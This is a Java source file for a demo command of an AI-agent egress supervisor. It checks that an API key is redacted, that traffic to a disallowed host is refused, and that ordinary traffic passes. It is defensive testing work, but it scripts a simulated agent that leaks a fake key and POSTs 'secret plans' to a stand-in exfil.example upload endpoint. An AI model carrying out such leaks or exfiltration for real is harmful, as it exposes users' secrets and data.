package dev.openshell.supervisor.cli;

import com.sun.net.httpserver.HttpServer;
import dev.openshell.supervisor.runtime.Supervisor;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import jakarta.json.JsonReader;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringReader;
import java.net.InetSocketAddress;
import java.net.ProxySelector;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.Callable;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import picocli.CommandLine.Command;
import picocli.CommandLine.Spec;
import picocli.CommandLine.Model.CommandSpec;

/**
 * {@code supervisor demo}: a self-contained tour that needs no network. It starts a loopback upstream that records
 * what it receives and a supervisor in front of it, sends agent-like requests through the supervisor, and prints what
 * the agent sent, what the upstream received, and the decisions and findings from the audit log. Exit code 0 only
 * when every step behaved as expected.
 */
@Command(name = "demo", description = {
        "A self-contained tour (no network needed): a loopback upstream, the supervisor in front of it, and "
                + "agent-like requests through it. Exits 0 only if every step behaved as expected."})
final class DemoCommand implements Callable<Integer> {
    /** A fake key in the OpenAI format: never a real secret. */
    static final String FAKE_KEY = "sk-proj-" + "DEMO0123456789abcdefghijklmnopqrstuvwxyzABCD";

    @Spec
    CommandSpec spec;

    DemoCommand() {
    }

    /** What the upstream received. */
    private record Received(String method, String path, Map<String, List<String>> headers, String body) {
    }

    /** The demo's upstream: it records what it receives and answers every request with a chat completion. */
    private record Upstream(HttpServer server, List<Received> received, AtomicInteger hits) {
        int port() {
            return server.getAddress().getPort();
        }

        Received last() {
            synchronized (received) {
                return received.isEmpty() ? null : received.get(received.size() - 1);
            }
        }
    }

    /** The demo's files under its work directory. */
    private record DemoFiles(Path policy, Path gateway, Path audit, Path plugins) {
    }

    @Override
    public Integer call() throws Exception {
        PrintWriter out = spec.commandLine().getOut();
        // the tour prints its own story; keep routine start-up logging out of it
        Main.logLevel("io.helidon", java.util.logging.Level.WARNING);
        Main.logLevel("dev.openshell.supervisor", java.util.logging.Level.SEVERE);
        Path work = Files.createTempDirectory("supervisor-demo");
        try {
            return tour(out, work);
        } finally {
            deleteTree(work); // the policy, gateway file, state and audit log of one tour: nothing is left behind
        }
    }

    /** Runs the tour with its files under {@code work}; {@return the exit code} */
    private Integer tour(PrintWriter out, Path work) throws Exception {
        Upstream upstream = startUpstream();
        DemoFiles files = writeFiles(work, upstream.port());
        boolean ok;
        out.println("== OpenShell supervisor demo ==");
        out.println("upstream (records what it receives): 127.0.0.1:" + upstream.port());
        try (Supervisor supervisor = Supervisor.start(new Supervisor.Options(Optional.of(files.policy()),
                Optional.of(files.gateway()), Optional.of("127.0.0.1:0"), Optional.of(files.plugins()),
                Optional.of(work.resolve("state")), Optional.of(files.audit().toString()), Optional.of("off"),
                Map.of()))) {
            out.println("supervisor listening on 127.0.0.1:" + supervisor.port()
                    + " (policy: api.model.example allowed; openshell/regex redacts secrets on it)");
            HttpClient client = HttpClient.newBuilder()
                    .proxy(ProxySelector.of(new InetSocketAddress("127.0.0.1", supervisor.port())))
                    .connectTimeout(Duration.ofSeconds(5)).build();
            ok = redactsKey(out, client, upstream) & refusesHost(out, client, upstream)
                    & forwardsPlain(out, client, upstream);
        } catch (Supervisor.StartupException e) {
            out.println("supervisor could not start: " + e.getMessage());
            ok = false;
        } finally {
            upstream.server().stop(0);
        }
        printAudit(out, files.audit());
        out.println();
        out.println(ok ? "demo passed: every step behaved as expected" : "demo FAILED: see the steps above");
        out.flush();
        return ok ? 0 : 1;
    }

    /** Deletes {@code root} and everything below it, deepest first; what cannot be deleted is left. */
    private static void deleteTree(Path root) {
        try (Stream<Path> walk = Files.walk(root)) {
            for (Path p : walk.sorted(Comparator.reverseOrder()).toList()) {
                Files.deleteIfExists(p);
            }
        } catch (IOException | RuntimeException e) {
            // best effort: the tour's result is already printed
        }
    }

    private static Upstream startUpstream() throws IOException {
        List<Received> received = new ArrayList<>();
        AtomicInteger hits = new AtomicInteger();
        HttpServer server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 16);
        server.createContext("/", exchange -> {
            byte[] body = exchange.getRequestBody().readAllBytes();
            synchronized (received) {
                received.add(new Received(exchange.getRequestMethod(), exchange.getRequestURI().getPath(),
                        Map.copyOf(exchange.getRequestHeaders()), new String(body, StandardCharsets.UTF_8)));
            }
            hits.incrementAndGet();
            byte[] reply = "{\"id\":\"chatcmpl-demo\",\"choices\":[{\"message\":{\"content\":\"ok\"}}]}"
                    .getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().add("Content-Type", "application/json");
            exchange.sendResponseHeaders(200, reply.length);
            exchange.getResponseBody().write(reply);
            exchange.close();
        });
        server.start();
        return new Upstream(server, received, hits);
    }

    private static DemoFiles writeFiles(Path work, int up) throws IOException {
        Path policy = work.resolve("policy.yaml");
        Files.writeString(policy, """
                version: 1
                network_policies:
                  model_api:
                    name: model API
                    endpoints:
                      - host: api.model.example
                        port: %d
                network_middlewares:
                  secrets:
                    name: Redact known secret formats
                    middleware: openshell/regex
                    order: 10
                    config: { mode: redact }
                    on_error: fail_closed
                    endpoints:
                      include: ["api.model.example"]
                """.formatted(up));
        Path gateway = work.resolve("gateway.toml");
        Files.writeString(gateway, """
                [openshell.supervisor.network]
                allow_loopback_upstreams = true   # the demo upstream runs on loopback

                [openshell.supervisor.network.static_hosts]
                "api.model.example" = "127.0.0.1"
                "exfil.example" = "127.0.0.1"
                """);
        // an empty plugins directory: the supervisor refuses to start with one that does not exist
        Path plugins = Files.createDirectories(work.resolve("plugins"));
        return new DemoFiles(policy, gateway, work.resolve("audit.jsonl"), plugins);
    }

    private static boolean redactsKey(PrintWriter out, HttpClient client, Upstream upstream) throws Exception {
        out.println();
        out.println("1. The agent sends a chat completion that carries an API key it found in a file.");
        String chat = "{\"model\":\"gpt-4o\",\"messages\":[{\"role\":\"user\",\"content\":"
                + "\"Deploy with this key: " + FAKE_KEY + "\"}]}";
        HttpResponse<String> r1 = client.send(HttpRequest.newBuilder(
                URI.create("http://api.model.example:" + upstream.port() + "/v1/chat/completions"))
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(chat)).build(), HttpResponse.BodyHandlers.ofString());
        Received got = upstream.last();
        out.println("   agent sent:        " + chat.replace(FAKE_KEY, mask(FAKE_KEY)));
        out.println("   upstream received: " + (got == null ? "(nothing)" : got.body()));
        out.println("   agent got:         HTTP " + r1.statusCode());
        boolean redacted = r1.statusCode() == 200 && got != null && !got.body().contains(FAKE_KEY)
                && got.body().contains("REDACTED");
        return check(out, redacted, "the key was redacted before it left the sandbox");
    }

    private static boolean refusesHost(PrintWriter out, HttpClient client, Upstream upstream) throws Exception {
        out.println();
        out.println("2. The agent tries a host the policy does not allow.");
        int before = upstream.hits().get();
        HttpResponse<String> r2 = client.send(HttpRequest.newBuilder(
                URI.create("http://exfil.example:" + upstream.port() + "/upload"))
                .POST(HttpRequest.BodyPublishers.ofString("{\"notes\":\"secret plans\"}")).build(),
                HttpResponse.BodyHandlers.ofString());
        out.println("   agent got:         HTTP " + r2.statusCode() + " " + r2.body());
        return check(out, r2.statusCode() == 403 && upstream.hits().get() == before,
                "refused with 403; the upstream never saw it");
    }

    private static boolean forwardsPlain(PrintWriter out, HttpClient client, Upstream upstream) throws Exception {
        out.println();
        out.println("3. The agent sends an ordinary request with nothing to redact.");
        String plain = "{\"model\":\"gpt-4o\",\"messages\":[{\"role\":\"user\",\"content\":\"Hello\"}]}";
        HttpResponse<String> r3 = client.send(HttpRequest.newBuilder(
                URI.create("http://api.model.example:" + upstream.port() + "/v1/chat/completions"))
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(plain)).build(), HttpResponse.BodyHandlers.ofString());
        Received got3 = upstream.last();
        out.println("   upstream received: " + (got3 == null ? "(nothing)" : got3.body()));
        return check(out, r3.statusCode() == 200 && got3 != null && got3.body().equals(plain),
                "forwarded unchanged");
    }

    private static void printAudit(PrintWriter out, Path audit) throws IOException {
        out.println();
        out.println("Decisions and findings from the audit log (" + audit + "):");
        for (String line : Files.exists(audit) ? Files.readAllLines(audit) : List.<String>of()) {
            JsonObject e;
            try (JsonReader reader = Json.createReader(new StringReader(line))) {
                e = reader.readObject();
            }
            JsonObject os = e.containsKey("unmapped") ? e.getJsonObject("unmapped").getJsonObject("openshell") : null;
            if (os == null || !os.containsKey("config_key")) {
                continue;
            }
            out.printf("   %-18s %-9s config %-8s binding %-16s %s%n", e.getString("class_name"),
                    e.getString("severity"), os.getString("config_key"), os.getString("binding_id"),
                    os.containsKey("finding_type") ? "finding " + os.getString("finding_type") + " x"
                            + os.getInt("count") : "decision " + os.getString("decision", ""));
        }
    }

    private static String mask(String key) {
        return key.substring(0, 8) + "…(fake key)";
    }

    private static boolean check(PrintWriter out, boolean ok, String what) {
        out.println("   " + (ok ? "OK   " : "FAIL ") + what);
        return ok;
    }
}
